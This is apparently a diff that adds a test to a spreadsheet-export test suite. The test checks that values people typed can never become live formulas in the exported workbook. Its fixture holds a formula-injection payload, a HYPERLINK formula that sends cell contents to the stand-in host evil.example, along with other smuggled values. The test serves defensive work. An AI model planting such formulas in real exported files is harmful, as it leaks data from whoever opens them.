@@ -219,3 +219,22 @@ def test_a_pseudonymised_export_names_nobody_in_roles_and_agendas(
     rows = list(book["sessions"].values)
     agenda = [dict(zip(rows[0], row)) for row in rows[1:]]
     assert {row["facilitators"] for row in agenda} == {";".join(sorted([aigul, nino])), None, aigul}
+
+
+def test_no_cell_of_the_export_is_a_formula_whatever_people_typed(
+    tmp_path, create_organization, create_person, create_manual, create_training,
+):
+    import zipfile
+
+    build_network(create_organization, create_person, create_manual, create_training)
+    create_person(key="p-risky", full_name='=HYPERLINK("http://evil.example/?"&A1)', city="-1+1", phone="\t=1")
+    path = tmp_path / "network.xlsx"
+    export_workbook(path, operator())
+
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) > 5 and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    book = openpyxl.load_workbook(path)
+    risky = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and "evil.example" in cell.value]
+    assert [(cell.value, cell.data_type) for cell in risky] == [("'=HYPERLINK(\"http://evil.example/?\"&A1)", "s")]
